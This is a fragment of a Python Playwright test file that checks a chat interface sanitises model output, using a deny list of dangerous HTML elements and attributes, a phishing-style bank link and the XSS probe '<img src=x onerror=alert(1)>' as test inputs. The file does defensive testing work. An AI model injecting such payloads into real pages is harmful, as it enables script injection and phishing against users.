        prose.locator("script, img, svg, style, iframe, object, form, math, base, meta, link, [style], [id], [name]").count()
        == 0
    )
    for element in prose.locator("*").all():
        names = element.evaluate("e => e.getAttributeNames()")
        assert not [name for name in names if name.startswith("on") or name in {"src", "srcdoc", "formaction"}]
    for link in prose.locator("a").all():
        assert re.match(r"(https?|mailto):", link.get_attribute("href") or "")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    desk.is_clean()


def test_a_link_says_where_it_leads(chromium: Browser) -> None:
    with at_desk(chromium, engine=FakeEngine(words=["[your bank](https://elsewhere.example/login)"])) as desk:
        desk.pin()
        desk.asked("link")
        expect(desk.last.locator(".prose")).to_have_text("your bank(elsewhere.example)")


def test_a_models_name_and_a_title_are_text_too(desk: Desk) -> None:
    desk.pin()
    desk.asked("<img src=x onerror=alert(1)> & <b>bold</b>")
    expect(desk.page.locator(".rail-item").first).to_contain_text("<img src=x")
    assert desk.page.locator(".app img, .app b").count() == 0
    assert desk.page.locator(".turn-said").last.inner_text().startswith(MODEL)
